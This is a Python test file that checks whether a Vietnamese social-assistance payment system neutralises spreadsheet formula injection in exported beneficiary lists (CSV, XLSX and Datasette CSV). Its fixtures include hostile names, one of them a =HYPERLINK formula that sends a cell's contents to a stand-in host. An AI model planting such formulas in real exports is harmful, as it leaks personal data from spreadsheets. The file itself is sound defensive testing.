"""Finding 8: a beneficiary's name must never become a formula in an exported list (issue 11).

The attack: a person registered as ``=HYPERLINK(…)`` (or ``+…``, ``-…``, ``@…``, a leading tab
or carriage return, or the full-width ``＝ ＋ － ＠``) is paid; the commune downloads the payment
list as CSV or XLSX and opens it in a spreadsheet. The files are read back as a spreadsheet
would: openpyxl must see strings (not formulas), the CSV cell must start with ``'``, and the
amounts must stay numbers.
"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from btxh import exports, paylist

COMMUNE, MONTH, NOW = "00004", "2026-11", "2026-11-20T08:00:00Z"
HOSTILE = ['=HYPERLINK("http://example.invalid/?d="&B3,"Bấm vào đây")', "+84 912 345 678", "-1+2",
           "@SUM(1;2)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠A1"]


def _paid_list(db):
    village = db["villages"].insert({"commune_code": COMMUNE, "name": "Tổ dân phố 2", "kind": "Tổ dân phố",
                                     "valid_from": "2025-07-01"}).last_pk
    run = db["payroll_runs"].insert({"month": MONTH, "scope": "01", "status": "closed", "rule_set": "national-2026",
                                     "created_at": NOW, "created_by": "test", "closed_at": NOW,
                                     "closed_by": "test"}).last_pk
    for name in HOSTILE:
        person = db["persons"].insert({"full_name": name, "sex": "nam", "birth_date": "1940",
                                       "birth_precision": "year", "birth_year": 1940, "commune_code": COMMUNE,
                                       "village_id": village, "created_at": NOW, "updated_at": NOW}).last_pk
        db["memberships"].insert({"person_id": person, "commune_code": COMMUNE, "category": "K5c",
                                  "valid_from": "2024-01-01"})
        db["ledger"].insert({"run_id": run, "person_id": person, "commune_code": COMMUNE, "program": "TCXH",
                             "month": MONTH, "kind": "thuong_xuyen", "due": 750_000, "paid": 0, "basis": "K5c"})
    return paylist.build(db, COMMUNE, MONTH)


def test_names_starting_with_formula_characters_stay_text_in_payment_list_csv_and_xlsx(ref_db):
    pl = _paid_list(ref_db)
    rows = list(csv.reader(io.StringIO(paylist.to_csv(pl).decode("utf-8-sig"), newline="")))
    names = {row[1] for row in rows[1:] if row[1]}
    assert names == {"'" + name for name in HOSTILE}, names
    assert all(row[5] == "750000" for row in rows[1:] if row[1]), "amounts must stay plain numbers"

    ws = load_workbook(io.BytesIO(paylist.to_xlsx(pl))).active
    cells = {cell.value: cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)}
    for name in HOSTILE:
        cell = cells.get(name.replace("\r", "\n"))  # XML reads a carriage return back as a newline
        assert cell is not None, f"{name!r} not written as text"
        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.data_type)
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"], "a formula in the list"
    money = [c.value for row in ws.iter_rows() for c in row if c.value == 750_000]
    assert len(money) >= len(HOSTILE) and all(isinstance(v, int) for v in money)


def test_every_csv_writer_uses_the_one_rule():
    """Numbers untouched (also negative ones, also as text); text with the triggers prefixed."""
    out = io.StringIO()
    exports.csv_writer(out).writerow([-750_000, 0, "-750000", "-1.5", "-1+2", "Nguyễn Văn An", "=1", "", None])
    assert out.getvalue() == "-750000,0,-750000,-1.5,'-1+2,Nguyễn Văn An,'=1,,\r\n"


def test_names_starting_with_formula_characters_stay_text_in_datasette_table_csv(reference_db_path, tmp_path):
    import asyncio
    import shutil

    from btxh import store, users
    from conftest import PASSWORD, login_all, start_datasette

    path = tmp_path / "btxh.db"
    shutil.copy(reference_db_path, path)
    db = store.open_db(path)
    _paid_list(db)
    users.add_user(db, username="fx_xa", role="can_bo_xa", password=PASSWORD, communes=[COMMUNE])
    db.conn.close()
    ds = start_datasette(path)
    cookies = login_all(ds, ["fx_xa"])["fx_xa"]
    for url in ("/btxh/persons.csv?_col=full_name&_col=birth_year&_size=max",
                "/btxh/persons.csv?_col=full_name&_col=birth_year&_dl=1"):
        response = asyncio.run(ds.client.get(url, cookies=cookies))
        assert response.status_code == 200, (url, response.status_code)
        rows = list(csv.reader(io.StringIO(response.text, newline="")))
        names = {row[rows[0].index("full_name")] for row in rows[1:]}
        assert names == {"'" + name for name in HOSTILE}, (url, names)
        assert {row[rows[0].index("birth_year")] for row in rows[1:]} == {"1940"}
